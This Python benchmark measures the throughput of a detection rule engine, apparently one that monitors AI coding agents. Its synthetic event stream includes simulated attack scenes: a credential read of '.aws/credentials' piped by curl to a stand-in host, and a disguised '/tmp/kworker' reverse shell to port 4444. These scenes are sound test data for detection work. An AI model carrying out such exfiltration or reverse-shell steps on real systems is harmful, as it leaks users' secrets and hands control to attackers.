"""Rule engine throughput with the bundled rules, single thread, no kernel needed.

    .venv/bin/python bench/bench_rules.py [--events 1000000] [--trace TRACE...] [--json]

The stream is a recorded trace when --trace is given (repeated with shifted timestamps up to
--events), else a synthetic mix built from the event model: agent-like work (compiles, git
commits, pip installs, test runs reading .env, an agent talking to its API, file-write
summaries) with a few suspicious scenes mixed in (reverse shell, secret read then connect).
Prints the number of rules, events/s of the engine (pipeline with the engine minus the
process table alone), events/s per event type, the alerts raised, and the memory held by
sequence/threshold state after the run. Target (issue 3): at least 100,000 events/s.
"""

from __future__ import annotations

import argparse
import json
import random
import sys
import time
from collections import Counter
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from coi_sentinel.events import model as m  # noqa: E402
from coi_sentinel.events.proctable import ProcessTable  # noqa: E402
from coi_sentinel.heap import collect_young_less, settle  # noqa: E402
from coi_sentinel.rules import Engine, load_ruleset  # noqa: E402

TARGET = 100_000


class Stream:
    """Builds events with rising timestamps and consistent pids."""

    def __init__(self, seed: int = 7) -> None:
        self.rng = random.Random(seed)
        self.ts = 1_000_000_000
        self.next_pid = 1000
        self.events: list[m.Event] = []
        self.container = "agent-1"

    def hdr(self, pid: int, ppid: int, comm: str) -> dict:
        self.ts += self.rng.randint(100_000, 1_900_000)   # ~1,000 events per second
        return dict(ts_ns=self.ts, pid=pid, tid=pid, ppid=ppid, uid=1000, gid=1000, comm=comm[:15],
                    cgroup_id=77, scope_id=77, container=self.container)

    def spawn(self, parent: int, pcomm: str, exe: str, argv: tuple[str, ...]) -> int:
        pid = self.next_pid
        self.next_pid += 1
        self.events.append(m.ForkEvent(**self.hdr(parent, 1, pcomm), child_pid=pid, clone_flags=17))
        name = exe.rsplit("/", 1)[-1]
        self.events.append(m.ExecEvent(**self.hdr(pid, parent, name), filename=exe, argv=argv,
                                       argc=len(argv), errno=0, fd=-100, flags=0))
        return pid

    def write(self, pid: int, ppid: int, comm: str, path: str, nbytes: int = 4096) -> None:
        self.events.append(m.FileOpenEvent(**self.hdr(pid, ppid, comm), path=path, flags=0o1101, mode=0o644,
                                           fd=3, errno=0, kind="write", dirfd=-100))
        if self.rng.random() < 0.6:
            self.events.append(m.FileWriteEvent(**self.hdr(pid, ppid, comm), path=path, kind="write", opens=1,
                                                writes=self.rng.randint(1, 40), bytes=nbytes, failed=False,
                                                first_ts_ns=self.ts))

    def read_sensitive(self, pid: int, ppid: int, comm: str, path: str) -> None:
        self.events.append(m.FileOpenEvent(**self.hdr(pid, ppid, comm), path=path, flags=0, mode=0, fd=4,
                                           errno=0, kind="sensitive", dirfd=-100))

    def connect(self, pid: int, ppid: int, comm: str, ip: str, port: int, send: int = 0) -> None:
        self.events.append(m.ConnectEvent(**self.hdr(pid, ppid, comm), fd=5, family="inet", daddr=ip, dport=port,
                                          errno=115))
        if send:
            self.events.append(m.NetSendEvent(**self.hdr(pid, ppid, comm), fd=5, bytes=send, calls=3,
                                              family="inet", daddr=ip, dport=port, first_ts_ns=self.ts))

    def exit(self, pid: int, ppid: int, comm: str) -> None:
        self.events.append(m.ExitEvent(**self.hdr(pid, ppid, comm), exit_code=0, signal=0))

    # ---- scenes ----
    def compile_c(self, shell: int) -> None:
        n = self.rng.randint(1, 400)
        gcc = self.spawn(shell, "bash", "/usr/bin/gcc", ("gcc", "-O2", "-c", f"src/f{n}.c", "-o", f"obj/f{n}.o"))
        cc1 = self.spawn(gcc, "gcc", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
                         ("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", f"src/f{n}.c", "-o", "/tmp/ccA1.s"))
        self.write(cc1, gcc, "cc1", "/tmp/ccA1.s", 20_000)
        self.exit(cc1, gcc, "cc1")
        asm = self.spawn(gcc, "gcc", "/usr/bin/as", ("as", "-o", f"obj/f{n}.o", "/tmp/ccA1.s"))
        self.write(asm, gcc, "as", f"obj/f{n}.o", 8_000)
        self.events.append(m.UnlinkEvent(**self.hdr(gcc, shell, "gcc"), path="/tmp/ccA1.s", dirfd=-100, flags=0,
                                         errno=0))
        self.exit(asm, gcc, "as")
        self.exit(gcc, shell, "gcc")

    def git_commit(self, shell: int) -> None:
        git = self.spawn(shell, "bash", "/usr/bin/git", ("git", "commit", "-qam", "wip"))
        for _ in range(self.rng.randint(2, 8)):
            h = self.rng.getrandbits(160)
            self.write(git, shell, "git", f".git/objects/{h >> 152:02x}/{h:040x}"[:60], 300)
        self.write(git, shell, "git", ".git/index.lock", 12_000)
        self.events.append(m.RenameEvent(**self.hdr(git, shell, "git"), oldpath=".git/index.lock",
                                         newpath=".git/index", flags=0, errno=0))
        self.write(git, shell, "git", ".git/logs/HEAD", 200)
        self.exit(git, shell, "git")

    def pip_install(self, shell: int) -> None:
        pip = self.spawn(shell, "bash", "/usr/bin/python3.11", ("python3", "-m", "pip", "install", "dist/pkg.whl"))
        self.connect(pip, shell, "python3", "151.101.0.223", 443, send=2_000)
        for i in range(self.rng.randint(3, 12)):
            self.write(pip, shell, "python3", f"/home/code/.local/lib/python3.11/site-packages/pkg/m{i}.py", 3_000)
        self.events.append(m.ChmodEvent(**self.hdr(pip, shell, "python3"), path="/home/code/.local/bin/pkg",
                                        fd=-1, mode=0o755, errno=0))
        self.exit(pip, shell, "python3")

    def run_tests(self, shell: int) -> None:
        py = self.spawn(shell, "bash", "/usr/bin/python3.11", ("python3", "-m", "pytest", "-q"))
        if self.rng.random() < 0.3:
            self.read_sensitive(py, shell, "python3", ".env")
        for i in range(self.rng.randint(2, 6)):
            self.write(py, shell, "python3", f"tests/__pycache__/test_{i}.cpython-311.pyc", 5_000)
        self.connect(py, shell, "python3", "127.0.0.1", 5432, send=800)
        self.events.append(m.ConnectRepeatEvent(**self.hdr(py, shell, "python3"), family="inet",
                                                daddr="127.0.0.1", dport=5432, errno=0, count=12,
                                                first_ts_ns=self.ts))
        self.events.append(m.UnlinkEvent(**self.hdr(py, shell, "python3"), path="/tmp/pytest-tmp", dirfd=-100,
                                         flags=0, errno=0))
        self.exit(py, shell, "python3")

    def agent_turn(self, agent: int) -> None:
        self.connect(agent, 1, "claude", "160.79.104.10", 443, send=self.rng.randint(5_000, 90_000))
        self.events.append(m.FileWriteEvent(**self.hdr(agent, 1, "claude"), path="/home/code/.claude/todos.json",
                                            kind="write", opens=3, writes=3, bytes=900, failed=False,
                                            first_ts_ns=self.ts))

    def reverse_shell(self, shell: int) -> None:
        sh = self.spawn(shell, "bash", "/tmp/kworker", ("kworker", "-i"))
        self.connect(sh, shell, "kworker", "203.0.113.9", 4444)
        for fd in (0, 1, 2):
            self.events.append(m.DupEvent(**self.hdr(sh, shell, "kworker"), oldfd=5, newfd=fd, errno=0,
                                          is_socket=True, family="inet", daddr="203.0.113.9", dport=4444))
        self.exit(sh, shell, "kworker")

    def secret_exfil(self, shell: int) -> None:
        cat = self.spawn(shell, "bash", "/usr/bin/cat", ("cat", "/home/code/.aws/credentials"))
        self.read_sensitive(cat, shell, "cat", "/home/code/.aws/credentials")
        self.exit(cat, shell, "cat")
        curl = self.spawn(shell, "bash", "/usr/bin/curl", ("curl", "-d", "@-", "https://203.0.113.7/"))
        self.connect(curl, shell, "curl", "203.0.113.7", 443, send=700)
        self.exit(curl, shell, "curl")

    def build(self, n: int) -> list[m.Event]:
        agent = self.next_pid
        self.next_pid += 1
        self.events.append(m.ExecEvent(**self.hdr(agent, 1, "claude"), filename="/usr/bin/node",
                                       argv=("claude",), argc=1, errno=0, fd=-100, flags=0))
        scenes = [self.compile_c] * 6 + [self.git_commit] * 2 + [self.pip_install, self.run_tests] * 2
        while len(self.events) < n:
            shell = self.spawn(agent, "claude", "/bin/bash", ("bash", "-c", "make"))
            for _ in range(self.rng.randint(1, 6)):
                self.rng.choice(scenes)(shell)
                if self.rng.random() < 0.2:
                    self.agent_turn(agent)
            if self.rng.random() < 0.002:
                self.rng.choice([self.reverse_shell, self.secret_exfil])(shell)
            self.exit(shell, agent, "bash")
        return self.events[:n]


def from_traces(paths: list[str], n: int) -> list[m.Event]:
    """The events of recorded traces, repeated with shifted timestamps until there are n."""
    from dataclasses import replace

    from coi_sentinel.trace import read_events

    base = list(read_events(paths))
    if not base:
        raise SystemExit("the traces hold no events")
    span = base[-1].ts_ns - base[0].ts_ns + 1_000_000
    out: list[m.Event] = []
    round_ = 0
    while len(out) < n:
        shift = round_ * span
        out.extend(base if not shift else (replace(e, ts_ns=e.ts_ns + shift) for e in base))
        round_ += 1
    return out[:n]


def run(n: int, traces: list[str] | None = None) -> dict:
    t0 = time.perf_counter()
    events = from_traces(traces, n) if traces else Stream().build(n)
    build_s = time.perf_counter() - t0
    ruleset = load_ruleset(None)
    settle()                    # as the CLI does where its loop starts

    table = ProcessTable()
    t0 = time.perf_counter()
    for ev in events:
        table.apply(ev)
    table_s = time.perf_counter() - t0

    alerts: Counter[str] = Counter()
    table = ProcessTable()
    engine = Engine(ruleset, on_alert=lambda a: alerts.update([a.rule]), table=table)
    apply = table.apply
    t0 = time.perf_counter()
    for ev in events:
        engine(ev, apply(ev))
    total_s = time.perf_counter() - t0
    engine_s = max(total_s - table_s, 1e-9)

    # per event type: the engine alone on (event, process) pairs of one type
    table = ProcessTable()
    pairs: dict[str, list] = {}
    for ev in events:
        pairs.setdefault(ev.type.label, []).append((ev, table.apply(ev)))
    per_type = {}
    for label, items in sorted(pairs.items()):
        eng = Engine(ruleset, table=table)
        t0 = time.perf_counter()
        for ev, p in items:
            eng(ev, p)
        dt = max(time.perf_counter() - t0, 1e-9)
        per_type[label] = {"events": len(items), "events_per_s": round(len(items) / dt)}

    stats = engine.stats()
    return {
        "events": n, "source": "traces" if traces else "synthetic", "rules": len(ruleset),
        "build_s": round(build_s, 2),
        "table_only_events_per_s": round(n / table_s), "pipeline_events_per_s": round(n / total_s),
        "engine_events_per_s": round(n / engine_s), "target_events_per_s": TARGET,
        "ratio_to_target": round(n / engine_s / TARGET, 2), "per_type": per_type,
        "alerts": dict(alerts), "state_bytes": engine.state_bytes(), "state": {
            "sequences": stats["sequences"], "thresholds": stats["thresholds"], "evictions": stats["evictions"]},
        "mix": dict(Counter(ev.type.label for ev in events)),
    }


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--events", type=int, default=1_000_000)
    ap.add_argument("--trace", nargs="+", help="recorded traces to use instead of the synthetic mix")
    ap.add_argument("--json", action="store_true")
    args = ap.parse_args()
    collect_young_less()        # as the CLI does
    r = run(args.events, args.trace)
    if args.json:
        print(json.dumps(r))
        return
    print(f"rules: {r['rules']} (bundled), events: {r['events']:,} {r['source']} (built in {r['build_s']} s)")
    print("mix: " + ", ".join(f"{k} {v}" for k, v in sorted(r["mix"].items(), key=lambda kv: -kv[1])))
    print(f"process table alone:   {r['table_only_events_per_s']:>10,} events/s")
    print(f"table + engine:        {r['pipeline_events_per_s']:>10,} events/s")
    print(f"engine (difference):   {r['engine_events_per_s']:>10,} events/s  "
          f"= {r['ratio_to_target']}x the {TARGET:,} target")
    print("engine alone, per event type:")
    for label, d in r["per_type"].items():
        print(f"  {label:<15} {d['events']:>8,} events {d['events_per_s']:>12,} events/s")
    print("alerts: " + (", ".join(f"{k} {v}" for k, v in sorted(r["alerts"].items())) or "none"))
    print(f"state after {r['events']:,} events: {r['state_bytes'] / 1024:.1f} KiB, "
          f"evictions {r['state']['evictions']}")
    for rid, s in r["state"]["sequences"].items():
        print(f"  sequence {rid}: {s}")
    for rid, s in r["state"]["thresholds"].items():
        print(f"  threshold {rid}: {s}")


if __name__ == "__main__":
    main()
